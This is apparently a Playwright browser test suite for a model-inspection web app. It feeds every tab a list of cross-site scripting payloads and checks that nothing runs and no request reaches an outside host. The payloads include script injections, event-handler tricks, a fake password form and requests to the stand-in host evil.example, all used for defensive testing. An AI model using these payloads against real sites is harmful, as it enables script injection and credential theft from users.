"""A tour of every tab with texts meant to break out of the page: nothing of them runs, and nothing goes elsewhere."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from app.common.strings import all_words
from tests.browser.app_server import ROOT, running_app, server_of
from tests.browser.outside import Outside, sockets_watched, watched

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.slow]
EN = all_words()["en"]
LONG = 120_000  # ms

# Each would leave a trace: `window.pwned`, a request to evil.example, or an element that text alone never makes.
HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=https://evil.example/a.png onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1><style>@import 'https://evil.example/b.css'</style>",
    "</textarea></script><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<form action=https://evil.example/c><input name=password autofocus onfocus=window.pwned=1></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/d)'>Say your password again</div>",
    "[x](javascript:window.pwned=1) ![y](https://evil.example/e.png) <https://evil.example/f>",
    "${window.pwned=1} {{window.pwned=1}} #{window.pwned=1} <%= window.pwned=1 %>",
    "<a href='javascript:window.pwned=1' ping=https://evil.example/g>click</a>",
    "&lt;img src=x onerror=window.pwned=1&gt; \"'><base href=https://evil.example/> \u202e<b>\u0000",
)
TEXT = "Tom has a ball. Where is the ball? "
ELEMENTS = (
    "script:not([src]), img, iframe, object, embed, base, form[action], a[href^='javascript'], a[ping], [srcdoc],"
    " [onerror], [onload], [onfocus], input[name=password], [style*='evil']"
)


def copy_with_title(models: Path, name: str, title: str) -> None:
    shutil.copytree(ROOT / "checkpoints" / "tinytown", models / name)
    card = models / name / "card.json"
    card.write_text(json.dumps(json.loads(card.read_text()) | {"name": title}))
    (models / name / "manifest.json").unlink()  # which no longer fits


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    with watched(tmp_path_factory.mktemp("watch")) as outside:
        yield outside


@pytest.fixture(scope="module")
def address(outside: Outside, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("tour")
    copy_with_title(folder / "models", "tinytown", "<img src=x onerror=window.pwned=1>")
    copy_with_title(folder / "models", "second", "</option><script>window.pwned=1</script>")
    options = ("--models", str(folder / "models"))
    app = running_app(folder / "models" / "tinytown", folder / "app.log", *options)
    with app as address, sockets_watched(outside, server_of(address)):
        yield address
    log = (folder / "app.log").read_text()
    assert "Traceback" not in log
    assert "pwned" not in log, "what users type is not logged"


@pytest.fixture
def page(browser: Browser, address: str, outside: Outside) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="en-GB")
    outside.listen(context)
    page = context.new_page()
    page.on("dialog", lambda dialog: pytest.fail(f"the page opened a dialog: {dialog.message}"))
    page.goto(address)
    page.locator("#knob-seed").wait_for(state="attached")
    yield page
    context.close()


def open_tab(page: Page, title: str, box: str) -> None:
    page.get_by_role("tab", name=EN[title], exact=True).click()
    page.locator(box).wait_for(state="visible", timeout=LONG)
    page.wait_for_function("box => document.querySelector(box).value !== ''", arg=box, timeout=LONG)


def read(page: Page, title: str, box: str, text: str, result: str) -> None:
    """Type a text into a tab that looks inside the model, and wait for what it shows."""
    open_tab(page, title, box)
    page.locator(box).fill(text)
    page.keyboard.press("Enter")
    page.locator(result).first.wait_for(timeout=LONG)


def tour(page: Page, hostile: str) -> None:
    """Use every tab as a person would, with the same hostile text in each box."""
    text = TEXT + hostile
    page.locator("#knob-max_tokens").fill("5")
    page.locator("#lab-chat textarea").fill(text)
    page.keyboard.press("Enter")
    page.locator(".lab-turn.lab-done").wait_for(timeout=LONG)
    page.locator(".lab-turn .lab-token").first.click()
    page.get_by_role("dialog").wait_for()
    page.keyboard.press("Escape")
    read(page, "attention.title", "#look-text", text, ".lab-look-cell")
    page.locator(".lab-look-cell").first.click()
    read(page, "step.title", "#step-text", text, ".lab-step-picture canvas, .lab-step-picture table")
    read(page, "layers.title", "#layers-text", text, "#lab-layers tbody tr")
    read(page, "attribution.title", "#why-text", text, ".lab-why-curves svg")
    read(page, "intervene.title", "#act-text", text, ".lab-act-head")
    open_tab(page, "responsibility.title", ".lab-fair-sentences")
    page.locator(".lab-fair-sentences").fill(f"{{who}} {hostile}".replace("|", " ").replace("\n", " "))
    page.locator(".lab-fair-name").first.fill(hostile[:40])
    page.locator(".lab-fair-form .lab-send").click()
    page.locator("#lab-responsibility").locator(".lab-fair-found svg, .lab-problem:not(:empty)").first.wait_for(
        timeout=LONG
    )
    page.get_by_role("tab", name=EN["compare.title"], exact=True).click()
    page.locator(".lab-compare-part-size tbody tr").first.wait_for(timeout=LONG)
    page.get_by_role("tab", name=EN["train.title"], exact=True).click()
    page.locator("#lab-train").get_by_label(EN["train.own"], exact=True).check()
    page.locator("#lab-train").get_by_label(EN["train.text"], exact=True).fill(hostile)
    page.get_by_role("button", name=EN["train.go"], exact=True).click()
    page.locator("#lab-train").get_by_role("alert").first.wait_for(timeout=LONG)


def assert_inert(page: Page) -> None:
    assert page.evaluate("window.pwned") is None
    made = page.locator(f":is(#lab-tabs, #lab-header) :is({ELEMENTS})")
    assert made.count() == 0, made.first.evaluate("node => node.outerHTML")


@pytest.mark.parametrize("hostile", [" ".join(HOSTILE[place::5]) for place in range(5)], ids=range(5))
@pytest.mark.fault(16)
def test_nothing_that_is_typed_runs_in_any_tab(page: Page, outside: Outside, address: str, hostile: str) -> None:
    tour(page, hostile)
    assert_inert(page)
    assert outside.seen(address) == []


def test_a_training_and_another_model_ask_nobody(page: Page, outside: Outside, address: str) -> None:
    page.get_by_role("tab", name=EN["train.title"], exact=True).click()
    page.locator("#lab-train").get_by_label(EN["train.own"], exact=True).check()
    page.locator("#lab-train").get_by_label(EN["train.text"], exact=True).fill(
        f"The red kite flew over the town. {HOSTILE[1]} " * 40
    )
    page.locator(".lab-train-size input").fill("0")
    page.locator(".lab-train-minutes input").fill("0.25")
    page.get_by_role("button", name=EN["train.go"], exact=True).click()
    page.locator(".lab-train-samples li").first.wait_for(timeout=LONG)
    page.get_by_role("button", name=EN["train.stop"], exact=True).click()
    assert_inert(page)
    page.get_by_label(EN["header.language"]).select_option("de")
    page.locator(".lab-models").select_option("second")
    page.wait_for_url("**model=second")
    page.locator("#knob-seed").wait_for(state="attached")
    assert page.locator(".lab-models option:checked").inner_text().startswith("</option><script>")
    assert_inert(page)
    assert outside.seen(address) == []


def test_the_watch_itself_sees_what_leaves(tmp_path: Path) -> None:
    program = (
        "import contextlib, socket\n"
        "with contextlib.suppress(OSError): socket.create_connection(('192.0.2.1', 9), timeout=0.01)\n"
        "with socket.create_server(('127.0.0.1', 0)) as near: socket.create_connection(near.getsockname()).close()\n"
    )
    with watched(tmp_path) as outside:
        subprocess.run([sys.executable, "-c", program], check=True)
        assert len(outside.seen("http://127.0.0.1:1/")) >= 1
        assert all("192.0.2.1" in line for line in outside.seen("http://127.0.0.1:1/"))
        outside.requests.append("https://evil.example/a.png")
        assert outside.seen("http://127.0.0.1:1/")[-1] == "https://evil.example/a.png"
